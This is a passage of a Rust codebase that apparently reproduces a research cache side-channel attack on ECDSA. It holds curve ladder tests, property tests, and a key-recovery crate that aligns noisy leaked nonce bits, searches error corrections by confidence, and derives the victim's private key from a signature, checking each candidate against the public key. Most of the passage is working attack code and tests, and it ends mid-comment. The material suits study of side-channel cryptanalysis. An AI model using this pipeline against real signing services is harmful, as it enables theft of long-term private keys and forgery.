    let z_new = x_sq.mul(&z_sq);
    *x = x_new;
    *z = z_new;
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn generator_is_on_curve() {
        let curve = Curve::sect571r1();
        assert!(curve.is_on_curve(&curve.generator()));
        assert!(curve.is_on_curve(&Point::Infinity));
    }

    #[test]
    fn doubling_and_addition_stay_on_curve() {
        let curve = Curve::sect571r1();
        let g = curve.generator();
        let g2 = curve.double(&g);
        let g3 = curve.add(&g2, &g);
        assert!(curve.is_on_curve(&g2));
        assert!(curve.is_on_curve(&g3));
        assert_ne!(g2, g);
        assert_ne!(g3, g2);
    }

    #[test]
    fn addition_with_identity_and_inverse() {
        let curve = Curve::sect571r1();
        let g = curve.generator();
        assert_eq!(curve.add(&g, &Point::Infinity), g);
        assert_eq!(curve.add(&Point::Infinity, &g), g);
        let neg = curve.negate(&g);
        assert!(curve.is_on_curve(&neg));
        assert!(curve.add(&g, &neg).is_infinity());
    }

    #[test]
    fn reference_scalar_mul_small_multiples() {
        let curve = Curve::sect571r1();
        let g = curve.generator();
        let g2 = curve.double(&g);
        let g4 = curve.double(&g2);
        let g5 = curve.add(&g4, &g);
        assert_eq!(curve.scalar_mul_reference(&Scalar::from_u64(2), &g), g2);
        assert_eq!(curve.scalar_mul_reference(&Scalar::from_u64(5), &g), g5);
        assert!(curve.scalar_mul_reference(&Scalar::zero(), &g).is_infinity());
    }

    #[test]
    fn ladder_matches_reference_for_small_scalars() {
        let curve = Curve::sect571r1();
        let g = curve.generator();
        for k in [1u64, 2, 3, 7, 12, 97, 1023] {
            let scalar = Scalar::from_u64(k);
            let (ladder, steps) = curve.montgomery_ladder(&scalar, &g);
            let reference = curve.scalar_mul_reference(&scalar, &g);
            assert_eq!(ladder, reference, "k = {k}");
            assert_eq!(steps.len(), scalar.bit_length().saturating_sub(1));
        }
    }

    #[test]
    fn ladder_matches_reference_for_random_scalar() {
        use rand::rngs::SmallRng;
        use rand::{Rng, SeedableRng};
        let curve = Curve::sect571r1();
        let g = curve.generator();
        let mut rng = SmallRng::seed_from_u64(7);
        // A moderately sized scalar keeps the reference computation fast
        // while still exercising hundreds of ladder iterations.
        let k = Scalar::from_u64(rng.gen::<u64>() | (1 << 63));
        let (ladder, _) = curve.montgomery_ladder(&k, &g);
        assert_eq!(ladder, curve.scalar_mul_reference(&k, &g));
    }

    #[test]
    fn ladder_trace_matches_key_bits() {
        let curve = Curve::sect571r1();
        let g = curve.generator();
        let k = Scalar::from_u64(0b1011_0010_1101);
        let (_, steps) = curve.montgomery_ladder(&k, &g);
        let expected: Vec<bool> = k.bits_msb_first()[1..].to_vec();
        let observed: Vec<bool> = steps.iter().map(|s| s.bit).collect();
        assert_eq!(observed, expected);
    }

    #[test]
    fn ladder_of_zero_and_one() {
        let curve = Curve::sect571r1();
        let g = curve.generator();
        assert!(curve.montgomery_ladder(&Scalar::zero(), &g).0.is_infinity());
        assert_eq!(curve.montgomery_ladder(&Scalar::one(), &g).0, g);
    }
}
