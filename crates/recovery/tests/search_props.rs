//! Property tests of the correction search against real public-key
//! verification.
//!
//! For random nonces and random error/erasure patterns *within* the search
//! budget, the confidence-ordered search must recover the exact private key;
//! for patterns *beyond* the budget it must fail cleanly. False positives
//! are impossible by construction — every accepted candidate is verified
//! against the victim's public key — and the "beyond budget" property
//! checks exactly that: failure is reported as failure, never as a wrong
//! key.

use llc_ecdsa_victim::{hash_to_scalar, Ecdsa, KeyPair, Scalar, SigningTranscript};
use llc_recovery::{
    attempt_signature, BitEstimate, CampaignConfig, KeyVerifier, ObservedBit, SearchConfig,
    SignatureObservation,
};
use proptest::prelude::*;
use rand::rngs::SmallRng;
use rand::{Rng, SeedableRng};
use std::sync::OnceLock;

/// Nonce width of the property victims: small enough that a candidate check
/// (one ladder over the nonce) stays affordable under the dev profile.
const NONCE_BITS: usize = 24;
const ITER: u64 = 10_000;

/// One long-term victim key, shared across properties (key generation costs
/// a full-width ladder; the properties vary nonces, not keys).
fn victim() -> &'static (Ecdsa, KeyPair, Scalar) {
    static VICTIM: OnceLock<(Ecdsa, KeyPair, Scalar)> = OnceLock::new();
    VICTIM.get_or_init(|| {
        let ecdsa = Ecdsa::new();
        let mut rng = SmallRng::seed_from_u64(0x5ec_1ab);
        let key = KeyPair::from_private(ecdsa.curve(), Scalar::random(&mut rng));
        let z = hash_to_scalar(b"search property victim");
        (ecdsa, key, z)
    })
}

fn sign_with_nonce_seed(seed: u64) -> SigningTranscript {
    let (ecdsa, key, z) = victim();
    let mut rng = SmallRng::seed_from_u64(seed);
    loop {
        let nonce = Scalar::random_with_bit_length(&mut rng, NONCE_BITS);
        if let Some(t) = ecdsa.sign_with_nonce(key, z, nonce) {
            return t;
        }
    }
}

/// Builds per-position estimates from the true ladder bits with `erasures`
/// positions erased and `errors` positions flipped at low confidence, at
/// deterministic pseudo-random positions drawn from `pattern_seed`.
fn corrupt(
    bits: &[bool],
    erasures: usize,
    errors: usize,
    pattern_seed: u64,
) -> Vec<BitEstimate> {
    let mut rng = SmallRng::seed_from_u64(pattern_seed);
    let mut positions: Vec<usize> = (0..bits.len()).collect();
    for i in 0..positions.len() {
        let j = rng.gen_range(i..positions.len());
        positions.swap(i, j);
    }
    let erased = &positions[..erasures];
    let flipped = &positions[erasures..erasures + errors];
    bits.iter()
        .enumerate()
        .map(|(i, &b)| {
            if erased.contains(&i) {
                BitEstimate::Erased
            } else if flipped.contains(&i) {
                BitEstimate::Known { bit: !b, confidence: 0.02 + 0.1 * (i as f64 / 64.0) }
            } else {
                BitEstimate::Known { bit: b, confidence: 0.85 + 0.1 * (i as f64 / 64.0) }
            }
        })
        .collect()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(6))]

    /// Within budget: any pattern of ≤ 4 erasures and ≤ 2 low-confidence
    /// errors is corrected and yields the exact private key.
    #[test]
    fn recovers_exact_key_within_budget(
        nonce_seed in 0u64..1_000_000,
        pattern_seed in 0u64..1_000_000,
        erasures in 0usize..5,
        errors in 0usize..3,
    ) {
        let (_, key, z) = victim();
        let t = sign_with_nonce_seed(nonce_seed);
        let estimates = corrupt(&t.ladder_bits, erasures, errors, pattern_seed);
        let verifier = KeyVerifier::new(*key.public(), t.signature, *z);
        let config = SearchConfig { max_candidates: 400, max_flips: 2 };
        let out = llc_recovery::correct_and_recover(&estimates, &config, |k| verifier.try_nonce(k));
        prop_assert_eq!(out.nonce.as_ref(), Some(&t.nonce));
        prop_assert_eq!(out.key.as_ref(), Some(key.private()));
        prop_assert!(out.candidates_tested <= 400);
    }

    /// Beyond budget: with more low-confidence errors than `max_flips` can
    /// cover, the search reports failure — never a wrong key.
    #[test]
    fn fails_cleanly_beyond_flip_budget(
        nonce_seed in 0u64..1_000_000,
        pattern_seed in 0u64..1_000_000,
    ) {
        let (_, key, z) = victim();
        let t = sign_with_nonce_seed(nonce_seed);
        // 4 errors, budget of 1 flip: unrecoverable by construction.
        let estimates = corrupt(&t.ladder_bits, 0, 4, pattern_seed);
        let verifier = KeyVerifier::new(*key.public(), t.signature, *z);
        let config = SearchConfig { max_candidates: 120, max_flips: 1 };
        let out = llc_recovery::correct_and_recover(&estimates, &config, |k| verifier.try_nonce(k));
        prop_assert_eq!(out.key, None);
        prop_assert_eq!(out.nonce, None);
        prop_assert_eq!(out.flips_of_solution, None);
    }

    /// Beyond breadth: a reconstruction that is mostly erasures exhausts the
    /// candidate bound without inventing a key.
    #[test]
    fn fails_cleanly_beyond_breadth(
        nonce_seed in 0u64..1_000_000,
        pattern_seed in 0u64..1_000_000,
    ) {
        let (_, key, z) = victim();
        let t = sign_with_nonce_seed(nonce_seed);
        let erasures = t.ladder_bits.len(); // everything erased: 2^23 fills
        let estimates = corrupt(&t.ladder_bits, erasures, 0, pattern_seed);
        let verifier = KeyVerifier::new(*key.public(), t.signature, *z);
        let config = SearchConfig { max_candidates: 64, max_flips: 0 };
        let out = llc_recovery::correct_and_recover(&estimates, &config, |k| verifier.try_nonce(k));
        prop_assert!(out.candidates_examined <= 64);
        // 64 of 2^23 candidates: the pattern-seeded truth is found only if it
        // happens to be all-leading-zeros-like; treat a hit as suspicious.
        if let Some(found) = out.key {
            prop_assert_eq!(&found, key.private(), "an accepted key is never wrong");
            prop_assert_eq!(out.nonce.as_ref(), Some(&t.nonce));
        }
    }

    /// The full attempt pipeline (time-stamped observations → alignment →
    /// search) recovers through the campaign-facing API as well.
    #[test]
    fn attempt_signature_recovers_from_observations(
        nonce_seed in 0u64..1_000_000,
        dropped in 0usize..3,
    ) {
        let (_, key, z) = victim();
        let t = sign_with_nonce_seed(nonce_seed);
        // Timestamped observations with `dropped` leading bits missing (the
        // alignment-shift hypothesis must absorb them).
        let observed: Vec<ObservedBit> = t
            .ladder_bits
            .iter()
            .enumerate()
            .skip(dropped)
            .map(|(i, &b)| ObservedBit { at: 500 + i as u64 * ITER, bit: b, confidence: 0.9 })
            .collect();
        let observation = SignatureObservation {
            signature: t.signature,
            hashed_message: *z,
            observed,
            sim_cycles: 1,
        };
        let config = CampaignConfig {
            ladder_bits: NONCE_BITS - 1,
            iteration_cycles: ITER,
            max_signatures: 1,
            max_alignment_shift: 2,
            search: SearchConfig { max_candidates: 64, max_flips: 1 },
        };
        let (recovered, _) = attempt_signature(&config, key.public(), &observation);
        let recovered = recovered.expect("clean observation within shift budget must break");
        prop_assert_eq!(&recovered.private, key.private());
        prop_assert_eq!(recovered.alignment_shift, dropped);
    }
}
