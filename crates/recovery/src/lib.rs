//! # llc-recovery
//!
//! Step 4 of the end-to-end attack: turning the noisy, partial nonce bits
//! that Step 3 decodes from the cache channel into the victim's **ECDSA
//! private key** — the paper's actual headline result (Section 7.3; the
//! extended version details the cryptanalytic post-processing).
//!
//! The crate is pure cryptanalysis: it knows nothing about caches or
//! machines. Its inputs are soft-decision bit observations (value +
//! confidence + time), public signature components `(r, s, z)` and the
//! victim's *public* key; its output is the private scalar `d`, verified
//! exclusively against public information.
//!
//! Pipeline:
//!
//! 1. **[`soft`]** — align time-stamped [`ObservedBit`]s onto ladder
//!    positions, producing per-position [`BitEstimate`]s (known bit with a
//!    confidence, or an erasure);
//! 2. **[`search`]** — a confidence-ordered error-correction search that
//!    fills erased positions and flips the least-confident recovered bits,
//!    enumerating candidate nonces in increasing "unlikeliness" under a
//!    configurable budget (breadth bound + max flips);
//! 3. **[`algebra`]** — for each candidate full nonce `k`, compute
//!    `d = r⁻¹·(s·k − z) mod n` and accept only when `d·G` equals the
//!    victim's public key (with a cheap `x(k·G) = r` pre-check, also public
//!    information);
//! 4. **[`campaign`]** — a multi-signature driver that keeps consuming fresh
//!    signature observations until some signature's corrected nonce
//!    verifies, reporting signatures-needed, search work and time spent.

#![warn(missing_docs)]
#![warn(missing_debug_implementations)]

pub mod algebra;
pub mod campaign;
pub mod search;
pub mod soft;

pub use algebra::{nonce_from_ladder_bits, recover_private_key, KeyVerifier};
pub use campaign::{
    attempt_signature, run_campaign, CampaignConfig, CampaignReport, RecoveredKey,
    SignatureObservation,
};
pub use search::{correct_and_recover, SearchConfig, SearchOutcome};
pub use soft::{align_observed_bits, BitEstimate, ObservedBit};
