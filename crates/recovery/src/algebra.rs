//! Algebraic key recovery: from a verified candidate nonce to the private
//! key, using public information only.
//!
//! ECDSA's signing equation `s = k⁻¹·(z + r·d) mod n` inverts to
//! `d = r⁻¹·(s·k − z) mod n`: a single correct nonce `k` for any one
//! signature yields the long-term private key. Everything needed to *check*
//! a candidate is public — the signature `(r, s)`, the hashed message `z`,
//! the curve, and the victim's public key `Q = d·G`.

use llc_ecdsa_victim::{group_order, Curve, Point, Scalar, Signature, U576};

/// Reconstructs a nonce scalar from its ladder bits: the Montgomery ladder
/// processes the bits *below* the most significant set bit, so the full
/// nonce is an implicit leading 1 followed by `bits` (most significant
/// first).
///
/// Returns `None` when the reconstructed value is not a valid nonce (zero or
/// at least the group order) — such a candidate can simply be discarded.
pub fn nonce_from_ladder_bits(bits: &[bool]) -> Option<Scalar> {
    let len = bits.len();
    if len + 1 > group_order().bit_length() {
        return None;
    }
    let mut limbs = [0u64; 9];
    let mut set = |i: usize| limbs[i / 64] |= 1u64 << (i % 64);
    set(len); // the implicit leading 1
    for (i, &b) in bits.iter().enumerate() {
        if b {
            set(len - 1 - i);
        }
    }
    let value = U576::from_limbs(limbs);
    if value.is_zero() || value.cmp_value(&group_order()) != std::cmp::Ordering::Less {
        return None;
    }
    Some(Scalar::new(value))
}

/// Computes `d = r⁻¹·(s·k − z) mod n` for a candidate nonce `k`.
///
/// This is pure algebra; it does **not** check the candidate. Pair it with
/// [`KeyVerifier::try_nonce`] (or an explicit `d·G = Q` check) before
/// trusting the result.
pub fn recover_private_key(signature: &Signature, hashed_message: &Scalar, k: &Scalar) -> Scalar {
    signature.r.inverse().mul(&signature.s.mul(k).sub(hashed_message))
}

/// Verifies candidate nonces for one signature against public information.
///
/// The expensive step of a candidate check is a scalar multiplication on the
/// curve. The verifier exploits that `r` itself pins the nonce —
/// `r = x(k·G) mod n` — so a candidate is first checked with a ladder over
/// `k` (cheap for scaled-down nonce widths), and only an `r`-match pays the
/// full-width `d·G` comparison against the public key. Both checks use
/// public data exclusively.
#[derive(Debug, Clone)]
pub struct KeyVerifier {
    curve: Curve,
    public: Point,
    signature: Signature,
    hashed_message: Scalar,
    r_inverse: Scalar,
}

impl KeyVerifier {
    /// Builds a verifier for one signature of the victim with public key
    /// `public`.
    ///
    /// # Panics
    ///
    /// Panics when the signature's `r` is zero (no such signature is ever
    /// emitted by a correct signer).
    pub fn new(public: Point, signature: Signature, hashed_message: Scalar) -> Self {
        assert!(!signature.r.is_zero(), "a valid ECDSA signature has r != 0");
        Self {
            curve: Curve::sect571r1(),
            public,
            r_inverse: signature.r.inverse(),
            signature,
            hashed_message,
        }
    }

    /// The signature this verifier checks against.
    pub fn signature(&self) -> &Signature {
        &self.signature
    }

    /// Tests a candidate nonce: returns the private key `d` when the
    /// candidate is consistent with the signature *and* `d·G` equals the
    /// victim's public key; `None` otherwise.
    pub fn try_nonce(&self, k: &Scalar) -> Option<Scalar> {
        if k.is_zero() {
            return None;
        }
        // Cheap public pre-check: r = x(k·G) mod n. The ladder's cost scales
        // with k's bit length, so wrong candidates for scaled victims are
        // rejected quickly.
        let (point, _) = self.curve.montgomery_ladder(k, &self.curve.generator());
        let x = point.x()?;
        let mut limbs = [0u64; 9];
        limbs.copy_from_slice(x.limbs());
        if Scalar::new(U576::from_limbs(limbs)) != self.signature.r {
            return None;
        }
        // d = r⁻¹·(s·k − z), accepted only if it reproduces the public key.
        let d = self.r_inverse.mul(&self.signature.s.mul(k).sub(&self.hashed_message));
        if d.is_zero() {
            return None;
        }
        let (dg, _) = self.curve.montgomery_ladder(&d, &self.curve.generator());
        (dg == self.public).then_some(d)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use llc_ecdsa_victim::{hash_to_scalar, Ecdsa, KeyPair};
    use rand::rngs::SmallRng;
    use rand::SeedableRng;

    fn scaled_signing(seed: u64, nonce_bits: usize) -> (Ecdsa, KeyPair, Scalar, llc_ecdsa_victim::SigningTranscript) {
        let ecdsa = Ecdsa::new();
        let mut rng = SmallRng::seed_from_u64(seed);
        let key = KeyPair::from_private(ecdsa.curve(), Scalar::random(&mut rng));
        let z = hash_to_scalar(b"recovery test message");
        let transcript = loop {
            let nonce = Scalar::random_with_bit_length(&mut rng, nonce_bits);
            if let Some(t) = ecdsa.sign_with_nonce(&key, &z, nonce) {
                break t;
            }
        };
        (ecdsa, key, z, transcript)
    }

    #[test]
    fn ladder_bits_round_trip_to_the_nonce() {
        let (_, _, _, t) = scaled_signing(1, 48);
        let rebuilt = nonce_from_ladder_bits(&t.ladder_bits).expect("valid nonce");
        assert_eq!(rebuilt, t.nonce);
    }

    #[test]
    fn invalid_reconstructions_are_rejected() {
        // Too wide: 570 ladder bits imply a 571-bit nonce ≥ 2^570 > n.
        assert!(nonce_from_ladder_bits(&vec![true; 570]).is_none());
        // Wide but representable values above n are rejected, below accepted.
        assert!(nonce_from_ladder_bits(&vec![true; 569]).is_none()); // 2^570 - 1 > n
        assert!(nonce_from_ladder_bits(&vec![false; 569]).is_some()); // 2^569 < n
    }

    #[test]
    fn correct_nonce_recovers_the_private_key() {
        let (_, key, z, t) = scaled_signing(2, 40);
        let d = recover_private_key(&t.signature, &z, &t.nonce);
        assert_eq!(&d, key.private());

        let verifier = KeyVerifier::new(*key.public(), t.signature, z);
        let recovered = verifier.try_nonce(&t.nonce).expect("true nonce must verify");
        assert_eq!(&recovered, key.private());
    }

    #[test]
    fn wrong_nonces_never_produce_a_key() {
        let (_, key, z, t) = scaled_signing(3, 40);
        let verifier = KeyVerifier::new(*key.public(), t.signature, z);
        assert!(verifier.try_nonce(&Scalar::zero()).is_none());
        assert!(verifier.try_nonce(&t.nonce.add(&Scalar::one())).is_none());
        assert!(verifier.try_nonce(&Scalar::from_u64(12345)).is_none());
    }

    #[test]
    fn verifier_rejects_nonce_of_a_different_key() {
        let (_, key_a, z, t_a) = scaled_signing(4, 40);
        let (_, _key_b, _, t_b) = scaled_signing(5, 40);
        let verifier = KeyVerifier::new(*key_a.public(), t_a.signature, z);
        assert!(verifier.try_nonce(&t_b.nonce).is_none());
    }
}
