//! Confidence-ordered error-correction search over candidate nonces.
//!
//! Step 3 leaves two kinds of uncertainty: **erasures** (ladder positions no
//! observation covered) and **errors** (observed bits that are wrong —
//! overwhelmingly the low-confidence ones). Both reduce to the same
//! operation: *flip a position of the baseline reconstruction*. Flipping an
//! erased position is free (the baseline fill carries no information);
//! flipping a known bit costs its confidence.
//!
//! The search enumerates flip sets in order of increasing total cost — the
//! classic most-reliable-positions soft-decision decoding discipline — so
//! the first candidates tried are exactly the most likely corrections. Key
//! verification ([`crate::algebra::KeyVerifier`]) is a perfect,
//! public-information oracle, so the first accepted candidate *is* the key:
//! there are no false positives to trade off, only budget.
//!
//! Budget has two knobs ([`SearchConfig`]): a **breadth bound** on examined
//! candidates and a **max flips** cap on how many *known* (non-erased) bits
//! a single candidate may flip. Within budget the enumeration is exhaustive
//! in cost order; beyond it the search reports failure cleanly.

use crate::algebra::nonce_from_ladder_bits;
use crate::soft::BitEstimate;
use llc_ecdsa_victim::Scalar;
use std::cmp::Ordering;
use std::collections::BinaryHeap;

/// Budget of the correction search.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct SearchConfig {
    /// Breadth bound: maximum number of candidate flip sets examined.
    pub max_candidates: u64,
    /// Maximum number of *known* (non-erased) bits one candidate may flip.
    /// Erasure fills are not limited (they are what the search is for);
    /// the breadth bound caps them implicitly.
    pub max_flips: usize,
}

impl Default for SearchConfig {
    fn default() -> Self {
        Self { max_candidates: 1 << 16, max_flips: 3 }
    }
}

/// Result of one correction search.
#[derive(Debug, Clone, PartialEq)]
pub struct SearchOutcome {
    /// The recovered private key, when some candidate verified.
    pub key: Option<Scalar>,
    /// The verified full nonce behind `key`.
    pub nonce: Option<Scalar>,
    /// Candidate flip sets examined (tested candidates plus flip-capped
    /// skips).
    pub candidates_examined: u64,
    /// Candidates actually submitted to the verifier.
    pub candidates_tested: u64,
    /// Known-bit flips of the successful candidate.
    pub flips_of_solution: Option<usize>,
    /// Erased positions in the input estimates.
    pub erasures: usize,
}

/// A flip set in the cost-ordered frontier. Ordered as a *min-heap* through
/// the reversed [`Ord`]: lowest cost first, ties broken by the flip mask so
/// the enumeration order — and therefore every reported statistic — is
/// bit-for-bit deterministic.
#[derive(Debug, Clone, Copy)]
struct Frontier {
    cost: f64,
    mask: u128,
    /// Index (into the sorted uncertain-position list) of the highest set
    /// bit of `mask`; drives the two-successor enumeration scheme.
    top: usize,
}

impl PartialEq for Frontier {
    fn eq(&self, other: &Self) -> bool {
        self.cmp(other) == Ordering::Equal
    }
}
impl Eq for Frontier {}
impl PartialOrd for Frontier {
    fn partial_cmp(&self, other: &Self) -> Option<Ordering> {
        Some(self.cmp(other))
    }
}
impl Ord for Frontier {
    fn cmp(&self, other: &Self) -> Ordering {
        // Reversed: BinaryHeap is a max-heap, we want the cheapest set first.
        other
            .cost
            .total_cmp(&self.cost)
            .then_with(|| other.mask.cmp(&self.mask))
    }
}

/// Maximum number of flippable positions the enumeration tracks (the flip
/// set is a `u128` bitmask). When a reconstruction has more uncertain
/// positions than this, only the `MAX_FLIP_POSITIONS` cheapest are eligible
/// for flipping — positions beyond that are far outside any realistic
/// budget anyway.
pub const MAX_FLIP_POSITIONS: usize = 128;

/// Runs the confidence-ordered search over `estimates`, submitting candidate
/// nonces to `verify` until it returns a key or the budget is exhausted.
///
/// `verify` receives the candidate *full nonce* (ladder bits prefixed with
/// the implicit leading 1) and returns the private key when the candidate is
/// consistent with the signature and public key — see
/// [`KeyVerifier::try_nonce`](crate::algebra::KeyVerifier::try_nonce).
pub fn correct_and_recover<F>(
    estimates: &[BitEstimate],
    config: &SearchConfig,
    mut verify: F,
) -> SearchOutcome
where
    F: FnMut(&Scalar) -> Option<Scalar>,
{
    // Baseline reconstruction plus the flippable-position list.
    let mut baseline = Vec::with_capacity(estimates.len());
    let mut uncertain: Vec<(f64, usize)> = Vec::new(); // (flip cost, position)
    let mut erasures = 0usize;
    for (i, e) in estimates.iter().enumerate() {
        match *e {
            BitEstimate::Erased => {
                baseline.push(false);
                erasures += 1;
                uncertain.push((0.0, i));
            }
            BitEstimate::Known { bit, confidence } => {
                baseline.push(bit);
                uncertain.push((confidence.clamp(0.0, 1.0), i));
            }
        }
    }
    // Cheapest flips first; ties break on position for determinism.
    uncertain.sort_by(|a, b| a.0.total_cmp(&b.0).then_with(|| a.1.cmp(&b.1)));
    uncertain.truncate(MAX_FLIP_POSITIONS);

    let mut outcome = SearchOutcome {
        key: None,
        nonce: None,
        candidates_examined: 0,
        candidates_tested: 0,
        flips_of_solution: None,
        erasures,
    };

    let mut heap: BinaryHeap<Frontier> = BinaryHeap::new();
    heap.push(Frontier { cost: 0.0, mask: 0, top: 0 });
    let mut bits = baseline.clone();

    while let Some(set) = heap.pop() {
        if outcome.candidates_examined >= config.max_candidates {
            break;
        }
        outcome.candidates_examined += 1;

        // Apply the flip set to the baseline.
        bits.copy_from_slice(&baseline);
        let mut known_flips = 0usize;
        for (idx, &(_, pos)) in uncertain.iter().enumerate() {
            if set.mask >> idx & 1 == 1 {
                bits[pos] = !bits[pos];
                if !estimates[pos].is_erased() {
                    known_flips += 1;
                }
            }
        }

        if known_flips <= config.max_flips {
            if let Some(k) = nonce_from_ladder_bits(&bits) {
                outcome.candidates_tested += 1;
                if let Some(d) = verify(&k) {
                    outcome.key = Some(d);
                    outcome.nonce = Some(k);
                    outcome.flips_of_solution = Some(known_flips);
                    return outcome;
                }
            }
        }

        // Two-successor scheme: every non-empty subset of {0..len} is
        // generated exactly once, in nondecreasing cost order.
        let next = if set.mask == 0 { 0 } else { set.top + 1 };
        if next < uncertain.len() {
            // Extend: S ∪ {next}.
            heap.push(Frontier {
                cost: set.cost + uncertain[next].0,
                mask: set.mask | 1 << next,
                top: next,
            });
            if set.mask != 0 {
                // Sibling: S \ {top} ∪ {next}.
                heap.push(Frontier {
                    cost: set.cost - uncertain[set.top].0 + uncertain[next].0,
                    mask: (set.mask & !(1 << set.top)) | 1 << next,
                    top: next,
                });
            }
        }
    }
    outcome
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::soft::BitEstimate::{Erased, Known};

    /// A verifier that accepts exactly one target nonce and returns a marker
    /// key for it.
    fn oracle(target: &Scalar) -> impl FnMut(&Scalar) -> Option<Scalar> + '_ {
        move |k| (k == target).then(Scalar::one)
    }

    fn known(bit: bool, confidence: f64) -> BitEstimate {
        Known { bit, confidence }
    }

    fn target_from_bits(bits: &[bool]) -> Scalar {
        nonce_from_ladder_bits(bits).expect("valid")
    }

    #[test]
    fn exact_estimates_succeed_on_the_first_candidate() {
        let truth = [true, false, true, true, false, false, true];
        let estimates: Vec<BitEstimate> = truth.iter().map(|&b| known(b, 0.9)).collect();
        let target = target_from_bits(&truth);
        let out = correct_and_recover(&estimates, &SearchConfig::default(), oracle(&target));
        assert_eq!(out.key, Some(Scalar::one()));
        assert_eq!(out.nonce, Some(target));
        assert_eq!(out.candidates_tested, 1);
        assert_eq!(out.flips_of_solution, Some(0));
    }

    #[test]
    fn erasures_are_filled_for_free() {
        let truth = [true, true, false, true, false, true, true, false];
        let mut estimates: Vec<BitEstimate> = truth.iter().map(|&b| known(b, 0.9)).collect();
        for i in [1usize, 4, 6] {
            estimates[i] = Erased;
        }
        let target = target_from_bits(&truth);
        let out = correct_and_recover(&estimates, &SearchConfig::default(), oracle(&target));
        assert_eq!(out.key, Some(Scalar::one()));
        assert_eq!(out.erasures, 3);
        assert_eq!(out.flips_of_solution, Some(0), "erasure fills are not known-bit flips");
        assert!(out.candidates_tested <= 8, "3 erasures need at most 2^3 candidates");
    }

    #[test]
    fn low_confidence_errors_are_corrected_before_high_confidence_ones() {
        let truth = [true, false, false, true, true, false];
        let mut wrong: Vec<BitEstimate> = truth.iter().map(|&b| known(b, 0.95)).collect();
        // One low-confidence error at position 2.
        wrong[2] = known(!truth[2], 0.1);
        let target = target_from_bits(&truth);
        let out = correct_and_recover(&wrong, &SearchConfig::default(), oracle(&target));
        assert_eq!(out.key, Some(Scalar::one()));
        assert_eq!(out.flips_of_solution, Some(1));
        // The cheapest single flip is tried before any high-confidence flip:
        // candidate #1 is the baseline, #2 flips the cheapest position.
        assert_eq!(out.candidates_tested, 2);
    }

    #[test]
    fn flip_budget_is_respected() {
        let truth = [true, false, true, false, true];
        let mut wrong: Vec<BitEstimate> = truth.iter().map(|&b| known(b, 0.9)).collect();
        // Two errors but a budget of one flip: must fail cleanly.
        wrong[1] = known(!truth[1], 0.2);
        wrong[3] = known(!truth[3], 0.2);
        let target = target_from_bits(&truth);
        let config = SearchConfig { max_flips: 1, max_candidates: 1 << 16 };
        let out = correct_and_recover(&wrong, &config, oracle(&target));
        assert_eq!(out.key, None);
        assert_eq!(out.flips_of_solution, None);
        // Raising the budget to two flips recovers.
        let config = SearchConfig { max_flips: 2, max_candidates: 1 << 16 };
        let out = correct_and_recover(&wrong, &config, oracle(&target));
        assert_eq!(out.key, Some(Scalar::one()));
        assert_eq!(out.flips_of_solution, Some(2));
    }

    #[test]
    fn breadth_bound_caps_the_work() {
        let truth: Vec<bool> = (0..24).map(|i| i % 3 == 0).collect();
        let estimates: Vec<BitEstimate> = (0..24).map(|_| Erased).collect();
        let target = target_from_bits(&truth);
        let config = SearchConfig { max_candidates: 100, max_flips: 0 };
        let out = correct_and_recover(&estimates, &config, oracle(&target));
        assert!(out.candidates_examined <= 100);
        // 2^24 fills cannot fit in 100 candidates (for this target pattern).
        assert_eq!(out.key, None);
    }

    #[test]
    fn enumeration_is_cost_ordered_and_duplicate_free() {
        // Track every candidate; no nonce may be proposed twice, and
        // verification order must follow nondecreasing flip cost.
        let estimates = vec![
            known(true, 0.8),
            known(false, 0.2),
            Erased,
            known(true, 0.5),
        ];
        let mut seen = std::collections::HashSet::new();
        let mut costs: Vec<f64> = Vec::new();
        let config = SearchConfig { max_candidates: 1 << 12, max_flips: 4 };
        let out = correct_and_recover(&estimates, &config, |k| {
            assert!(seen.insert(*k.value()), "candidate proposed twice");
            // Reconstruct the implied flip cost from the candidate's bits.
            let bits: Vec<bool> = (0..4).map(|i| k.bit(3 - i)).collect();
            let mut cost = 0.0;
            if !bits[0] {
                cost += 0.8; // flipped the 0.8-confidence `true`
            }
            if bits[1] {
                cost += 0.2; // flipped the 0.2-confidence `false`
            }
            if !bits[3] {
                cost += 0.5; // flipped the 0.5-confidence `true`
            }
            costs.push(cost);
            None
        });
        assert_eq!(out.key, None);
        assert_eq!(out.candidates_tested, 16, "4 uncertain positions → 2^4 candidates");
        for w in costs.windows(2) {
            assert!(w[0] <= w[1] + 1e-12, "verification not cost-ordered: {costs:?}");
        }
    }
}
