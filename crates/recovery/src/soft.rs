//! Soft-decision nonce reconstruction: aligning time-stamped bit
//! observations onto ladder positions.
//!
//! Step 3 hands over decoded bits as `(timestamp, value, confidence)`
//! triples. The ladder's structure is public — the attacker knows the
//! nominal iteration duration and how many iterations a signing performs
//! (the nonce width is the group order's bit length, or the service's
//! documented scaled width) — but not *which* iteration each decoded bit
//! belongs to. This module derives those positions from the inter-bit gaps:
//! consecutive decoded bits a little over one nominal iteration apart are
//! adjacent positions, a two-iteration gap skips one position (an erasure),
//! and so on. Per-gap rounding keeps the per-iteration jitter from
//! accumulating into position drift.
//!
//! The absolute anchor (how many leading iterations were missed entirely)
//! is not observable from the gaps; [`align_observed_bits`] takes it as the
//! `shift` hypothesis, and the campaign tries a few shifts per signature —
//! key verification is a perfect oracle, so a wrong hypothesis only costs
//! search budget.

/// One decoded ladder bit as observed on the wire: Step 3's soft-decision
/// output, stripped of any cache-specific context.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct ObservedBit {
    /// Cycle at which the bit's iteration boundary was observed.
    pub at: u64,
    /// The decoded bit value.
    pub bit: bool,
    /// Decoder confidence in `[0, 1]`.
    pub confidence: f64,
}

/// The reconstruction's belief about one ladder position.
#[derive(Debug, Clone, Copy, PartialEq)]
pub enum BitEstimate {
    /// No observation covered this position.
    Erased,
    /// An observation was aligned here.
    Known {
        /// The observed bit value.
        bit: bool,
        /// The observation's confidence in `[0, 1]`.
        confidence: f64,
    },
}

impl BitEstimate {
    /// True if this position has no observation.
    pub fn is_erased(&self) -> bool {
        matches!(self, BitEstimate::Erased)
    }
}

/// Aligns time-stamped observations onto `positions` ladder positions.
///
/// The first observation is assigned position `shift` (the hypothesis that
/// `shift` leading iterations were missed); each subsequent observation
/// advances by `round(gap / iteration_cycles)`. A gap shorter than half an
